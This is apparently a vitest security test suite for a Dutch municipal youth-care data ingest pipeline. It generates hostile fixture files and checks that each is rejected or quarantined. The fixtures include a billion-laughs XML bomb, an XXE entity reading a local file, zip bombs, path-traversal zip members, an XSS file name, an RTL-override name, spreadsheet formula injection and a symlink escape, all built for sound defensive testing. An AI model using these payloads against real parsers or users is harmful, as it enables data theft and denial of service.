/**
 * Hostile and broken deliveries, one inbox, one ingest run with low limits: every file gets a clear
 * verdict naming the file and its reason, the run goes on to the other files, every record is accounted
 * for, and every file that was read is in the archive under its hash.
 */
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { ingestInbox } from '../../pipelines/ingest/index.js';
import { loaders } from '../../pipelines/ingest/loaders.js';
import type { IngestSummary, Limits, Loader } from '../../pipelines/ingest/types.js';
import type { Warehouse } from '../../pipelines/lib/db.js';
import { memoryLogger } from '../../pipelines/lib/log.js';
import { loadProfiles } from '../../pipelines/lib/profiles.js';
import { SecretKey } from '../../pipelines/lib/pseudonym.js';
import { openWarehouse } from '../../pipelines/lib/warehouse.js';
import { jw301, jw305, NS, set } from '../ingest-ijw/messages.js';
import {
  CLIENTBESTAND_HEADER,
  clientrij,
  csv,
  UITKOMSTEN_HEADER,
  uitkomst,
} from '../ingest-tabular/helpers.js';
import { noise, xlsxOf, zipOf } from './files.js';

const clock = () => new Date('2026-11-23T02:00:00Z');
const key = new SecretKey('hardening-key-0123456789abcdef0123456789', 'pseudonym');
const limits: Limits = {
  maxFileBytes: 4 * 1024 * 1024,
  maxUnpackedBytes: 2 * 1024 * 1024,
  maxZipEntries: 50,
  maxCompressionRatio: 100,
};

/** A marker that stands for the content of a local file an attacker wants to read (XXE). */
const SECRET = `GEHEIM-${createHash('sha256').update('xxe').digest('hex').slice(0, 16)}`;

const good301 = (n: string, gemeente = '0193') =>
  jw301({ gemeente, id: `B${n}`, products: [{ nummer: n, eind: '2025-12-31', budget: '120000' }] });
const uitkomsten = (rows: string[][]) => csv([UITKOMSTEN_HEADER, ...rows]);

interface Case {
  kind: string;
  /** Path in the inbox: `<folder>/<file>` or a file at the root. */
  path: string;
  make?: (dir: string) => Buffer | string | Promise<Buffer | string>;
  result: 'geladen' | 'deels_afgewezen' | 'afgewezen' | 'none';
  reason?: RegExp;
  /** Rules that must appear in meta.quarantine for this file. */
  rules?: string[];
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
`;
const laughs = (_dir: string) =>
  billionLaughs + set(good301('4001'), 'Commentaar', '&lol9;').replace(/^<\?xml[^>]*>\s*/, '');
const xxe = (dir: string) => {
  const secret = join(dir, 'geheim.txt');
  writeFileSync(secret, SECRET);
  return `<?xml version="1.0"?>
<!DOCTYPE Bericht [ <!ENTITY xxe SYSTEM "file://${secret}"> ]>
${set(set(good301('4002'), 'Commentaar', '&xxe;'), 'ToewijzingNummer', '&xxe;').replace(/^<\?xml[^>]*>\s*/, '')}`;
};

const cases: Case[] = [
  // ── framework: where and what ──
  {
    kind: 'file at the inbox root',
    path: 'uitkomsten_20261101.csv',
    make: () => uitkomsten([uitkomst()]),
    result: 'afgewezen',
    reason: /niet in de map van een gemeente/,
  },
  {
    kind: 'unknown gemeente folder',
    path: 'GM9999/uitkomsten_20261101.csv',
    make: () => uitkomsten([uitkomst()]),
    result: 'afgewezen',
    reason: /onbekende map GM9999/,
  },
  {
    kind: 'folder of a gemeente outside the region',
    path: 'GM0363/ijw_a.xml',
    make: () => good301('9001', '0363'),
    result: 'afgewezen',
    reason: /onbekende map GM0363/,
  },
  {
    kind: 'lower-case folder name',
    path: 'gm0193/uitkomsten_20261101.csv',
    make: () => uitkomsten([uitkomst()]),
    result: 'afgewezen',
    reason: /onbekende map gm0193/,
  },
  {
    kind: 'unknown file type',
    path: 'GM0193/notities.txt',
    make: () => 'hallo\n',
    result: 'afgewezen',
    reason: /onbekend bestandstype/,
  },
  {
    kind: 'file over the size limit',
    path: 'GM0193/uitkomsten_20261102.csv',
    make: () => Buffer.alloc(limits.maxFileBytes + 1, 0x41),
    result: 'afgewezen',
    reason: /bestand te groot/,
  },
  {
    kind: 'file name with <script>',
    path: 'GM0193/uitkomsten_20261101 <img src=x onerror=alert(1)>.csv',
    make: () => uitkomsten([uitkomst({ toewijzingnummer: '1101' })]),
    result: 'geladen',
  },
  {
    kind: 'file name with RTL override, unicode and spaces',
    path: 'GM0193/uitkomsten_ 20261103 \u202Egpj.exe ✓ é.csv',
    make: () => uitkomsten([uitkomst({ toewijzingnummer: '1102' })]),
    result: 'geladen',
  },
  {
    kind: 'file in a subfolder',
    path: 'GM0193/oud/uitkomsten_20261104.csv',
    make: () => uitkomsten([uitkomst({ toewijzingnummer: '1103' })]),
    result: 'geladen',
  },
  // ── CSV / tabular ──
  {
    kind: 'empty CSV',
    path: 'GM0193/uitkomsten_20261105.csv',
    make: () => '',
    result: 'afgewezen',
    reason: /leeg/,
  },
  {
    kind: 'CSV with only whitespace',
    path: 'GM0193/uitkomsten_20261106.csv',
    make: () => '\n\n  \r\n',
    result: 'afgewezen',
    reason: /leeg/,
  },
  {
    kind: 'CSV with only a BOM',
    path: 'GM0193/uitkomsten_20261107.csv',
    make: () => '\uFEFF',
    result: 'afgewezen',
  },
  {
    kind: 'CSV header only',
    path: 'GM0193/uitkomsten_20261108.csv',
    make: () => uitkomsten([]),
    result: 'afgewezen',
    reason: /alleen een kopregel/,
  },
  {
    kind: 'CSV without the required columns',
    path: 'GM0193/uitkomsten_20261109.csv',
    make: () => 'a;b;c\n1;2;3\n',
    result: 'afgewezen',
  },
  {
    kind: 'binary garbage as CSV',
    path: 'GM0193/uitkomsten_20261110.csv',
    make: () => noise(4096, 7),
    result: 'afgewezen',
  },
  {
    kind: 'CSV with a 1 MB line',
    path: 'GM0193/uitkomsten_20261111.csv',
    make: () =>
      uitkomsten([
        uitkomst({ toewijzingnummer: '1104' }),
        uitkomst({ toewijzingnummer: 'X'.repeat(1024 * 1024) }),
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'CSV with ragged rows',
    path: 'GM0193/uitkomsten_20261112.csv',
    make: () =>
      `${uitkomsten([uitkomst({ toewijzingnummer: '1105' })])}GM0193;123456782\n${uitkomst({ toewijzingnummer: '1106' }).join(';')};extra;velden\n`,
    result: 'deels_afgewezen',
  },
  {
    kind: 'CSV with an unterminated quote',
    path: 'GM0193/uitkomsten_20261113.csv',
    make: () =>
      `${uitkomsten([uitkomst({ toewijzingnummer: '1107' })])}GM0193;"123456782;1108;12345678;45A07;31-10-2026;J;1;8;04;01-11-2026\n`,
    result: 'deels_afgewezen',
  },
  {
    kind: 'CSV with NUL bytes',
    path: 'GM0193/uitkomsten_20261114.csv',
    make: () =>
      uitkomsten([uitkomst({ toewijzingnummer: '11\u000009' }), uitkomst({ toewijzingnummer: '1110' })]),
    result: 'afgewezen',
    reason: /binaire gegevens/,
  },
  {
    // Not the UTF-8 the profile says: read as Windows-1252 (a departure), the garbage line quarantined.
    kind: 'CSV with invalid UTF-8',
    path: 'GM0150/uitkomsten_20261115.csv',
    make: () =>
      Buffer.concat([
        Buffer.from(uitkomsten([uitkomst({ gemeente: 'GM0150' })])),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0x0a]),
      ]),
    result: 'deels_afgewezen',
    rules: ['regel_velden'],
  },
  {
    // Detected by its zero bytes.
    kind: 'CSV in UTF-16 without BOM',
    path: 'GM0193/uitkomsten_20261116.csv',
    make: () => Buffer.from(uitkomsten([uitkomst({ toewijzingnummer: '1111' })]), 'utf16le'),
    result: 'geladen',
  },
  {
    kind: 'CSV with formula values',
    path: 'GM0193/uitkomsten_20261117.csv',
    make: () =>
      uitkomsten([
        uitkomst({ toewijzingnummer: '=HYPERLINK("http://x/?"&A1)' }),
        uitkomst({ productcode: '=1+1', toewijzingnummer: '1112' }),
        uitkomst({ toewijzingnummer: '1113' }),
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'CSV with rows for another gemeente',
    path: 'GM0193/uitkomsten_20261118.csv',
    make: () =>
      uitkomsten([
        uitkomst({ toewijzingnummer: '1114' }),
        uitkomst({ gemeente: 'GM0150', toewijzingnummer: '1115' }),
        uitkomst({ gemeente: '0166', toewijzingnummer: '1116' }),
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'clientbestand for another gemeente only',
    path: 'GM0193/clientbestand_20261101.csv',
    make: () => csv([CLIENTBESTAND_HEADER, clientrij({ gemeente: 'GM0150' })]),
    result: 'afgewezen',
  },
  {
    kind: 'CSV with 5000 columns',
    path: 'GM0193/uitkomsten_20261119.csv',
    make: () =>
      `${[...UITKOMSTEN_HEADER, ...Array.from({ length: 5000 }, (_, i) => `x${i}`)].join(';')}\n${uitkomst({ toewijzingnummer: '1117' }).join(';')}${';1'.repeat(5000)}\n`,
    result: 'geladen',
  },
  {
    kind: 'CSV with a BSN failing the 11-proef',
    path: 'GM0193/uitkomsten_20261120.csv',
    make: () => uitkomsten([uitkomst({ bsn: '123456789', toewijzingnummer: '1118' })]),
    result: 'afgewezen',
  },
  {
    kind: 'old binary Excel (.xls) named .csv',
    path: 'GM0193/uitkomsten_20261121.csv',
    make: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise(512)]),
    result: 'afgewezen',
    reason: /xls/,
  },
  {
    kind: 'PDF named .csv',
    path: 'GM0193/uitkomsten_20261122.csv',
    make: () => '%PDF-1.4\n%âãÏÓ\n1 0 obj\n',
    result: 'afgewezen',
    reason: /PDF/,
  },
  // ── XLSX ──
  {
    kind: 'XLSX with CSV inside',
    path: 'GM0193/uitkomsten_20261123.xlsx',
    make: () => uitkomsten([uitkomst()]),
    result: 'afgewezen',
    reason: /Excel/,
  },
  {
    kind: 'XLSX with random bytes',
    path: 'GM0193/uitkomsten_20261124.xlsx',
    make: () => noise(2048, 3),
    result: 'afgewezen',
    reason: /Excel/,
  },
  {
    kind: 'XLSX that is a zip of something else',
    path: 'GM0193/uitkomsten_20261125.xlsx',
    make: () => zipOf([{ name: 'readme.txt', content: 'geen werkboek' }]),
    result: 'afgewezen',
  },
  {
    kind: 'XLSX truncated',
    path: 'GM0193/uitkomsten_20261126.xlsx',
    make: async () => (await xlsxOf([UITKOMSTEN_HEADER, uitkomst()])).subarray(0, 700),
    result: 'afgewezen',
  },
  {
    kind: 'XLSX with formula cells',
    path: 'GM0193/uitkomsten_20261127.xlsx',
    make: () =>
      xlsxOf([
        UITKOMSTEN_HEADER,
        uitkomst({ toewijzingnummer: '1119' }),
        [
          ...uitkomst({ toewijzingnummer: '1120' }).slice(0, 2),
          { formula: 'HYPERLINK("http://x","1121")', result: '1121' },
          ...uitkomst().slice(3),
        ],
      ]),
    result: 'geladen',
  },
  {
    kind: 'XLSX zip bomb (sheet inflates far beyond its size)',
    path: 'GM0193/uitkomsten_20261128.xlsx',
    make: async () => xlsxBomb(),
    result: 'afgewezen',
  },
  {
    kind: 'XLSX header only',
    path: 'GM0193/uitkomsten_20261129.xlsx',
    make: () => xlsxOf([UITKOMSTEN_HEADER]),
    result: 'afgewezen',
    reason: /alleen een kopregel/,
  },
  // ── iJw XML ──
  {
    kind: 'good iJw message (control)',
    path: 'GM0193/ijw_goed.xml',
    make: () => good301('4000'),
    result: 'geladen',
  },
  { kind: 'empty XML', path: 'GM0193/ijw_leeg.xml', make: () => '', result: 'afgewezen' },
  {
    kind: 'binary garbage as XML',
    path: 'GM0193/ijw_ruis.xml',
    make: () => noise(4096, 11),
    result: 'afgewezen',
  },
  {
    kind: 'XML not well-formed',
    path: 'GM0193/ijw_kapot.xml',
    make: () => good301('4003').replace('</Client>', '</Cliënt>'),
    result: 'afgewezen',
  },
  {
    kind: 'XML truncated halfway',
    path: 'GM0193/ijw_afgebroken.xml',
    make: () => good301('4004').slice(0, 900),
    result: 'afgewezen',
  },
  { kind: 'billion-laughs entity bomb', path: 'GM0193/ijw_lol.xml', make: laughs, result: 'afgewezen' },
  {
    kind: 'external entity (XXE) to a local file',
    path: 'GM0193/ijw_xxe.xml',
    make: xxe,
    result: 'afgewezen',
  },
  {
    kind: 'DOCTYPE with an internal subset',
    path: 'GM0193/ijw_doctype.xml',
    make: () =>
      `<?xml version="1.0"?>\n<!DOCTYPE Bericht [ <!ELEMENT Bericht ANY> ]>\n${good301('4005').replace(/^<\?xml[^>]*>\s*/, '')}`,
    result: 'afgewezen',
  },
  {
    kind: 'wrong namespace',
    path: 'GM0193/ijw_ns.xml',
    make: () => good301('4006').replace(NS('jw301'), 'http://example.org/bericht'),
    result: 'afgewezen',
  },
  {
    kind: 'no namespace',
    path: 'GM0193/ijw_geenns.xml',
    make: () => good301('4007').replace(` xmlns="${NS('jw301')}"`, ''),
    result: 'afgewezen',
  },
  {
    kind: 'iWmo message',
    path: 'GM0193/ijw_wmo301.xml',
    make: () => good301('4008').replace(NS('jw301'), 'http://www.istandaarden.nl/iwmo/3_2/wmo301/schema'),
    result: 'afgewezen',
    reason: /iwmo/,
  },
  {
    kind: 'iJw 3.1 message',
    path: 'GM0193/ijw_31.xml',
    make: () => good301('4009').replaceAll('ijw/3_2/', 'ijw/3_1/'),
    result: 'afgewezen',
    reason: /3_1/,
  },
  {
    kind: 'root element not Bericht',
    path: 'GM0193/ijw_root.xml',
    make: () => good301('4010').replace('<Bericht ', '<Berichten ').replace('</Bericht>', '</Berichten>'),
    result: 'afgewezen',
  },
  {
    kind: 'iJw message of another gemeente',
    path: 'GM0193/ijw_ander.xml',
    make: () => good301('4011', '0150'),
    result: 'afgewezen',
    reason: /zie quarantaine/,
    rules: [],
  },
  {
    kind: 'XML with NUL bytes',
    path: 'GM0193/ijw_nul.xml',
    make: () => good301('4012').replace('<Geslacht>1', '<Geslacht>\u00001'),
    result: 'afgewezen',
  },
  {
    kind: 'XML with invalid UTF-8',
    path: 'GM0193/ijw_utf8.xml',
    make: () =>
      Buffer.concat([
        Buffer.from(good301('4013').split('Jansen')[0]!),
        Buffer.from([0xc3, 0x28, 0xff]),
        Buffer.from(`Jansen${good301('4013').split('Jansen')[1]}`),
      ]),
    result: 'afgewezen',
  },
  {
    kind: 'XML in UTF-16 without BOM',
    path: 'GM0193/ijw_utf16.xml',
    make: () => Buffer.from(good301('4014'), 'utf16le'),
    result: 'afgewezen',
  },
  {
    kind: 'XML with a 1 MB text field',
    path: 'GM0193/ijw_lang.xml',
    make: () => set(good301('4015'), 'ToewijzingNummer', '9'.repeat(1024 * 1024)),
    result: 'afgewezen',
  },
  {
    kind: 'XML nested 10,000 deep',
    path: 'GM0193/ijw_diep.xml',
    make: () =>
      good301('4016').replace('<Commentaar>', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}<Commentaar>`),
    result: 'afgewezen',
  },
  // ── zips ──
  {
    kind: 'zip of good messages (control)',
    path: 'GM0193/ijw_goed.zip',
    make: () =>
      zipOf([
        { name: 'a.xml', content: good301('5000') },
        { name: 'b.xml', content: jw305({ nummer: '5000' } as never) },
      ]),
    result: 'geladen',
  },
  {
    kind: '.zip that is no zip',
    path: 'GM0193/ijw_geen.zip',
    make: () => good301('5001'),
    result: 'afgewezen',
    reason: /zip/,
  },
  {
    kind: 'truncated zip',
    path: 'GM0193/ijw_afgebroken.zip',
    make: () =>
      zipOf([
        { name: 'a.xml', content: good301('5002') },
        { name: 'b.xml', content: good301('5003') },
      ]).subarray(0, 900),
    result: 'afgewezen',
  },
  {
    kind: 'empty zip',
    path: 'GM0193/ijw_leeg.zip',
    make: () => zipOf([]),
    result: 'afgewezen',
    reason: /zip bevat geen bestanden/,
  },
  {
    kind: 'zip bomb: one member of high ratio',
    path: 'GM0193/ijw_bom.zip',
    make: () => zipOf([{ name: 'bom.xml', content: Buffer.alloc(3 * 1024 * 1024, 0x20) }]),
    result: 'afgewezen',
  },
  {
    kind: 'zip bomb: too many entries',
    path: 'GM0193/ijw_veel.zip',
    make: () =>
      zipOf(
        Array.from({ length: limits.maxZipEntries + 1 }, (_, i) => ({
          name: `m${i}.xml`,
          content: good301(String(6000 + i)),
        })),
      ),
    result: 'afgewezen',
  },
  {
    kind: 'zip bomb: total unpacked over the limit',
    path: 'GM0193/ijw_groot.zip',
    make: () =>
      zipOf([1, 2, 3].map((i) => ({ name: `m${i}.xml`, content: noise(900 * 1024, i).toString('base64') }))),
    result: 'afgewezen',
  },
  {
    kind: 'zip member named ../',
    path: 'GM0193/ijw_pad.zip',
    make: () =>
      zipOf([
        { name: '../../evil.xml', content: good301('5004') },
        { name: 'ok.xml', content: good301('5005') },
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'zip member with an absolute name',
    path: 'GM0193/ijw_abs.zip',
    make: () =>
      zipOf([
        { name: '/etc/evil.xml', content: good301('5006') },
        { name: 'C:/evil.xml', content: good301('5007') },
      ]),
    result: 'afgewezen',
    reason: /alle 2 bestanden in de zip afgewezen/,
  },
  {
    kind: 'nested zip',
    path: 'GM0193/ijw_genest.zip',
    make: () =>
      zipOf([
        { name: 'binnen.zip', content: zipOf([{ name: 'x.xml', content: good301('5008') }]) },
        { name: 'ok.xml', content: good301('5009') },
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'zip with a non-XML member',
    path: 'GM0193/ijw_txt.zip',
    make: () =>
      zipOf([
        { name: 'lees mij.txt', content: 'hallo' },
        { name: 'ok.xml', content: good301('5010') },
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'zip with an XXE member',
    path: 'GM0193/ijw_xxe.zip',
    make: (dir) =>
      zipOf([
        { name: 'xxe.xml', content: xxe(dir) },
        { name: 'ok.xml', content: good301('5011') },
      ]),
    result: 'deels_afgewezen',
  },
  {
    kind: 'zip with a member of another gemeente',
    path: 'GM0193/ijw_ander.zip',
    make: () =>
      zipOf([
        { name: 'ander.xml', content: good301('5012', '0166') },
        { name: 'ok.xml', content: good301('5013') },
      ]),
    result: 'deels_afgewezen',
  },
  // ── the file system ──
  {
    kind: 'symbolic link to a file outside the inbox',
    path: 'GM0193/ijw_link.xml',
    result: 'afgewezen',
    reason: /koppeling/,
  },
  { kind: 'directory where a file is expected', path: 'GM0193/uitkomsten_20261130.csv', result: 'none' },
  {
    kind: 'file that cannot be read',
    path: 'GM0193/uitkomsten_20261231_onleesbaar.csv',
    result: 'afgewezen',
    reason: /kan niet gelezen/,
  },
];

/** An XLSX whose sheet inflates to far more than its packed size (a few KB become megabytes). */
async function xlsxBomb(): Promise<Buffer> {
  const good = await xlsxOf([UITKOMSTEN_HEADER, uitkomst()]);
  const { default: yauzl } = await import('yauzl');
  const members: { name: string; content: Buffer }[] = await new Promise((resolve, reject) => {
    yauzl.fromBuffer(good, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err);
      const out: { name: string; content: Buffer }[] = [];
      zip.on('entry', (e) =>
        zip.openReadStream(e, (er, s) => {
          if (er || !s) return reject(er);
          const parts: Buffer[] = [];
          s.on('data', (d: Buffer) => parts.push(d));
          s.on('end', () => {
            out.push({ name: e.fileName, content: Buffer.concat(parts) });
            zip.readEntry();
          });
        }),
      );
      zip.on('end', () => resolve(out));
      zip.readEntry();
    });
  });
  return zipOf(
    members.map((m) =>
      m.name.includes('sheet1')
        ? {
            name: m.name,
            content: m.content
              .toString()
              .replace('<sheetData>', `<sheetData>${' '.repeat(60 * 1024 * 1024)}`),
          }
        : m,
    ),
  );
}

describe('hostile and broken deliveries', () => {
  let dir: string;
  let inbox: string;
  let archive: string;
  let db: Warehouse;
  let summary: IngestSummary;
  let rows: Map<string, Record<string, unknown>>;
  const log = memoryLogger(clock);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'rijm-hard-'));
    inbox = join(dir, 'inbox');
    archive = join(dir, 'archive');
    for (const c of cases) {
      const path = join(inbox, c.path);
      mkdirSync(dirname(path), { recursive: true });
      if (c.make) writeFileSync(path, await c.make(dir));
    }
    // The file system cases.
    writeFileSync(join(dir, 'buiten.xml'), good301('7001'));
    symlinkSync(join(dir, 'buiten.xml'), join(inbox, 'GM0193/ijw_link.xml'));
    mkdirSync(join(inbox, 'GM0193/uitkomsten_20261130.csv'));
    const unreadable = join(inbox, 'GM0193/uitkomsten_20261231_onleesbaar.csv');
    writeFileSync(unreadable, uitkomsten([uitkomst({ toewijzingnummer: '1199' })]));
    chmodSync(unreadable, 0o000);
    // Running as root, chmod does not stop a read: the file vanishes between discovery and reading
    // instead, which takes the same path (the read fails).
    const asRoot = process.getuid?.() === 0;
    const loader = loaders.uitkomsten!;
    const vanishing: Loader = async (file, ctx) => {
      if (asRoot && file.name === 'uitkomsten_20261129.xlsx') rmSync(unreadable);
      return loader(file, ctx);
    };
    // Other gemeenten keep delivering.
    mkdirSync(join(inbox, 'GM0166'), { recursive: true });
    writeFileSync(join(inbox, 'GM0166', 'ijw_kampen.xml'), good301('8001', '0166'));

    db = await openWarehouse(':memory:');
    summary = await ingestInbox(db, {
      inbox,
      archiveDir: archive,
      key,
      runId: 'hard1',
      log,
      clock,
      limits,
      profiles: loadProfiles(),
      loaders: { ...loaders, uitkomsten: vanishing },
    });
    rows = new Map(
      (
        await db.all(
          `select gemeente, file_name, result, reason, records_read, records_loaded, records_quarantined,
             records_skipped, archive_path, sha256, size_bytes from meta.deliveries where member_name is null`,
        )
      ).map((r) => [r.gemeente === '(inbox)' ? String(r.file_name) : `${r.gemeente}/${r.file_name}`, r]),
    );
  }, 120_000);

  it('has at least fifty kinds', () => {
    expect(new Set(cases.map((c) => c.kind)).size).toBeGreaterThanOrEqual(50);
  });

  const row = (c: Case) => rows.get(c.path.replace(/^gm0193/, 'gm0193'));

  it.each(cases.map((c) => [c.kind, c] as const))(
    '%s: a clear verdict, every record accounted for',
    async (_, c) => {
      const r = row(c);
      if (c.result === 'none') {
        expect(r).toBeUndefined();
        return;
      }
      expect(r, `no delivery recorded for ${c.path}`).toBeDefined();
      expect(r!.result).toBe(c.result);
      if (c.result === 'afgewezen') expect(String(r!.reason ?? '')).not.toBe('');
      if (c.reason) expect(String(r!.reason)).toMatch(c.reason);
      const read = Number(r!.records_read);
      expect(read).toBe(
        Number(r!.records_loaded) + Number(r!.records_quarantined) + Number(r!.records_skipped),
      );
      // What was loaded is in the raw tables under the file's (or its members') delivery ids.
      const [{ n }] = (await db.all(
        `with ids as (select delivery_id from meta.deliveries where gemeente = $1 and file_name = $2)
       select (select count(*) from raw.uitkomsten where delivery_id in (select * from ids))
            + (select count(*) from raw.clientbestand where delivery_id in (select * from ids))
            + (select count(distinct (delivery_id, bericht_identificatie)) from raw.jw301 where delivery_id in (select * from ids))
            + (select count(distinct (delivery_id, bericht_identificatie)) from raw.jw305 where delivery_id in (select * from ids)) as n`,
        [String(r!.gemeente), String(r!.file_name)],
      )) as [{ n: number }];
      expect(n).toBe(Number(r!.records_loaded));
      if (Number(r!.records_quarantined) > 0) {
        const q = await db.all('select reason from meta.quarantine where gemeente = $1 and file_name = $2', [
          String(r!.gemeente),
          String(r!.file_name),
        ]);
        expect(q.length).toBeGreaterThan(0);
        for (const e of q) expect(String(e.reason)).not.toBe('');
      }
      // Every file that was read is in the archive, byte for byte under its hash.
      if (r!.archive_path !== null) {
        const bytes = readFileSync(String(r!.archive_path));
        expect(createHash('sha256').update(bytes).digest('hex')).toBe(r!.sha256);
      } else {
        expect(String(r!.sha256)).not.toMatch(/^[0-9a-f]{64}$/);
      }
    },
  );

  it('goes on with the other files and gemeenten', () => {
    expect(rows.get('GM0166/ijw_kampen.xml')?.result).toBe('geladen');
    expect(summary.perGemeente.GM0166?.rowsLoaded).toBe(1);
  });

  it('archives every file it read', async () => {
    const archived = await db.all<{ n: number }>(
      `select count(*) as n from meta.deliveries where member_name is null and archive_path is null and sha256 like '%' and sha256 similar to '[0-9a-f]{64}'`,
    );
    expect(archived[0]!.n).toBe(0);
  });

  it('never lets an entity reach a local file: its content is nowhere in the warehouse or the log', async () => {
    const tables = await db.all<{ schema_name: string; table_name: string; column_name: string }>(
      `select schema_name, table_name, column_name from duckdb_columns() where data_type = 'VARCHAR' and schema_name in ('raw', 'meta')`,
    );
    for (const t of tables) {
      const [hit] = await db.all<{ n: number }>(
        `select count(*) as n from "${t.schema_name}"."${t.table_name}" where contains("${t.column_name}", $1)`,
        [SECRET],
      );
      expect(hit!.n, `${t.schema_name}.${t.table_name}.${t.column_name}`).toBe(0);
    }
    expect(JSON.stringify(log.records)).not.toContain(SECRET);
  });

  it('stores no formula text from a CSV or a workbook', async () => {
    const [{ n }] = (await db.all(
      `select count(*) as n from raw.uitkomsten where toewijzingnummer like '=%' or productcode like '=%'`,
    )) as [{ n: number }];
    expect(n).toBe(0);
    const q = await db.all<{ rule: string }>(
      `select distinct rule from meta.quarantine where file_name = 'uitkomsten_20261117.csv' order by rule`,
    );
    expect(q.length).toBeGreaterThan(0);
  });

  it('quarantines rows and messages of another gemeente with a reason that names it', async () => {
    const q = await db.all<{ file_name: string; value: string | null; reason: string }>(
      `select file_name, value, reason from meta.quarantine
       where file_name in ('uitkomsten_20261118.csv', 'clientbestand_20261101.csv', 'ijw_ander.xml', 'ijw_ander.zip')
       order by file_name, line`,
    );
    const files = new Set(q.map((e) => e.file_name));
    expect([...files].sort()).toEqual([
      'clientbestand_20261101.csv',
      'ijw_ander.xml',
      'ijw_ander.zip',
      'uitkomsten_20261118.csv',
    ]);
    for (const e of q) expect(`${e.value} ${e.reason}`).toMatch(/gemeente|0150|0166/i);
  });
});
